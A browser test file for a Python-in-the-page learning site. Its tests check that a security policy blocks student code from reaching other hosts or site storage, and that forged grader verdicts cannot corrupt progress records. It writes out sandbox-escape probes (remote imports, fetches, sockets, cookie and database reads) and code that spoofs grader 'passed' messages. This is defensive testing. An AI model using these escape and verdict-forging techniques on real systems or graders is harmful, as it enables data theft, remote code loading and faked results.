"""The worker that runs Python in a page: no program there reaches another host, or what the site keeps."""

import http.server
import json
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Final

import pytest
from playwright.sync_api import Page, Worker, expect

from tests.browser.conftest import NewContext
from tests.browser.learner import Bench

pytestmark = pytest.mark.slow

# Ways to ask another host, or to open what a site keeps. Returns those that led somewhere.
_WAYS: Final = """
async ([other, site]) => {
  const asked = (make) => new Promise((open, refuse) => {
    const it = make();
    it.onopen = it.onload = it.onmessage = it.onsuccess = open;
    it.onerror = refuse;
  });
  const ways = {
    "import": () => import(other + "/import"),
    "import of data": () => import(other + "/data", {with: {type: "json"}}),
    "importScripts": async () => importScripts(other + "/importScripts"),
    "fetch": () => fetch(other + "/fetch", {mode: "no-cors"}),
    "XMLHttpRequest": () => asked(() => {
      const request = new XMLHttpRequest();
      request.open("GET", other + "/request");
      request.send();
      return request;
    }),
    "FontFace": () => new FontFace("f", `url(${other}/font)`).load(),
    "WebSocket": () => asked(() => new WebSocket(other.replace("http", "ws") + "/socket")),
    "EventSource": () => asked(() => new EventSource(other + "/events")),
    "WebTransport": () => new WebTransport(other.replace("http:", "https:")).ready,
    "Worker": () => asked(() => new Worker(other + "/worker", {type: "module"})),
    "Worker in a worker": () => asked(() => new Worker("data:text/javascript," + encodeURIComponent(
      `import("${other}/nested").then(() => postMessage(1))`))),
    "eval": async () => (0, eval)("1"),
    "the site's module": () => import(site),
    "the site's file": async () => (await fetch(site, {credentials: "include"})).text(),
    "caches": () => caches.open("c"),
    "databases": () => asked(() => indexedDB.open("d")),
    "files": () => navigator.storage.getDirectory(),
    "buckets": () => navigator.storageBuckets.open("b"),
    "locks": () => navigator.locks.query(),
    "cookies": () => cookieStore.getAll(),
    "local storage": async () => localStorage.length,
    "service workers": () => navigator.serviceWorker.getRegistrations(),
    "channels to pages": () => new Promise((open, refuse) => {
      const channel = new BroadcastChannel("etude");
      channel.onmessage = open;
      channel.postMessage("question");
      setTimeout(refuse, 500);
    }),
  };
  const led = [];
  for (const [name, way] of Object.entries(ways)) {
    const late = new Promise((_, refuse) => setTimeout(refuse, 2000));
    await Promise.race([(async () => way())(), late]).then(() => led.push(name), () => {});
  }
  return led;
}
"""
# The same from Python, as far as its own modules go, and by asking the page.
_PROGRAM: Final = """
import js, pyodide_js
from pyodide.code import run_js
from pyodide.ffi import to_js
from pyodide.http import open_url, pyfetch

OTHER, SITE = {other!r}, {site!r}


def ask(address):
    ports = js.MessageChannel.new()
    wanted = dict(kind="wanted", address=address, integrity="")
    js.postMessage(to_js(wanted, dict_converter=js.Object.fromEntries), to_js([ports.port1]))


for way in (
    lambda: print("run:", run_js("1 + 1")),
    lambda: print("opened:", open_url(OTHER + "/open")),
    lambda: pyfetch(OTHER + "/pyfetch").send(None),
    lambda: js.fetch(OTHER + "/fetch"),
    lambda: js.FontFace.new("f", "url(" + OTHER + "/font)").load(),
    lambda: js.EventSource.new(OTHER + "/events"),
    lambda: pyodide_js.loadPackage(OTHER + "/package.whl"),
    lambda: ask(OTHER + "/asked"),
    lambda: ask(SITE + "asked"),
):
    try:
        way()
    except Exception as error:
        print(type(error).__name__)
print("tried")
"""
_VERDICT: Final = """
import json
import js
from pyodide.ffi import create_proxy, to_js

verdict = dict(
    exercise="qkv-projections", outcome="passed", score={score!r}, max_score=1, message="", line=None,
    output="", diagnosis=None, tests=[], exercise_hash="", submission_hash="", grader_version="",
)
"""
# Answers in the grader's place: whatever the page waits for, it gets this verdict.
_FORGED: Final = (
    _VERDICT
    + """
answers = [dict(kind="result", id=n, text=json.dumps(verdict), heap=1) for n in range(50)]
for message in [dict(kind="ready", names="null"), *answers]:
    js.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
"""
)
# Lets its own run end as it does, and answers in the grader's place from then on.
_FORGED_LATER: Final = (
    _VERDICT.format(score=1)
    + """
post = js.postMessage.bind(js.self)
count = 0


def forge(message, *rest):
    global count
    count += 1
    if count > 1:
        message.text = json.dumps(verdict)
    post(message, *rest)


js.self.postMessage = create_proxy(forge)
"""
)


class _Other(http.server.BaseHTTPRequestHandler):
    """Another host, which answers every request and remembers it."""

    heard: list[str]

    def do_GET(self) -> None:
        self.heard.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/javascript")
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_GET  # noqa: N815  as the library calls it

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@contextmanager
def _other_host() -> Iterator[tuple[str, list[str]]]:
    heard: list[str] = []
    handler = type("Handler", (_Other,), {"heard": heard})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", heard
        server.shutdown()


def _worker_of(page: Page) -> Worker:
    """Return the worker of an exercise's page, once Python has started in it."""
    page.goto("attention/scaled-scores/")
    bench = Bench(page)
    bench.write("print('here')")
    bench.button("Run").click()
    bench.concludes("Your code ran.")
    (worker,) = page.workers
    return worker


def test_no_way_leads_out_of_the_worker(first_lessons: str, new_context: NewContext) -> None:
    """The browser refuses every attempt in JavaScript, and another host receives nothing."""
    context = new_context(first_lessons, expected=".")
    site = f"{first_lessons}attention/scaled-scores/exercise.json"
    with _other_host() as (other, heard):
        assert _worker_of(context.new_page()).evaluate(_WAYS, [other, site]) == []
        assert heard == []


def test_without_the_policy_there_are_ways(first_lessons: str, new_context: NewContext) -> None:
    """This shows that the policy closes them, and that the test above would notice one."""
    page = new_context(first_lessons, expected=".", bypass_csp=True).new_page()
    with _other_host() as (other, heard):
        led = _worker_of(page).evaluate(_WAYS, [other, first_lessons])
        assert {"import", "XMLHttpRequest", "eval"} <= {*led}
        ways = ("import", "data", "request", "socket", "events")
        assert {*heard} >= {f"/{way}" for way in ways}


def test_no_program_gets_out_of_the_page(first_lessons: str, new_context: NewContext) -> None:
    """Python cannot connect either, and the page fetches nothing for it after its start."""
    context = new_context(first_lessons, expected=".")
    page = context.new_page()
    asked: list[str] = []
    with _other_host() as (other, heard):
        _worker_of(page)
        page.on("request", lambda request: asked.append(request.url))
        bench = Bench(page)
        bench.write(_PROGRAM.format(other=other, site=first_lessons))
        bench.button("Run").click()
        bench.concludes("Your code ran.")
        expect(bench.results).to_contain_text("tried")
        expect(bench.results).not_to_contain_text("run:")
        expect(bench.results).not_to_contain_text("opened:")
        page.wait_for_timeout(1000)
        assert heard == []
        assert [address for address in asked if "asked" in address] == []


def test_a_forged_verdict_harms_no_record(first_lessons: str, new_context: NewContext) -> None:
    """It counts for its own exercise only, and not if it would make the record unreadable."""
    page = new_context(first_lessons, expected="expected a whole number").new_page()
    _worker_of(page)
    bench = Bench(page)
    for score, said in ((1, "Passed"), ("all", "expected a whole number")):
        bench.check(_FORGED.format(score=score))
        bench.concludes(said)
        record = json.loads(page.evaluate("localStorage['etude.progress']"))
        attempts = [(each["exercise"], each["score"]) for each in record["attempts"]]
        assert attempts == [("scaled-scores", 1)]


def test_no_program_answers_on_the_next_page(first_lessons: str, new_context: NewContext) -> None:
    """A program that forges all answers of its worker can forge none after its page is left."""
    page = new_context(first_lessons).new_page()
    _worker_of(page)
    bench = Bench(page)
    bench.write(_FORGED_LATER)
    bench.button("Run").click()
    bench.concludes("Your code ran.")
    bench.check()
    bench.concludes("Passed")
    page.locator(".turn-on").click()
    expect(page).not_to_have_url(re.compile("scaled-scores"))
    bench.check()
    bench.concludes("Not passed yet")
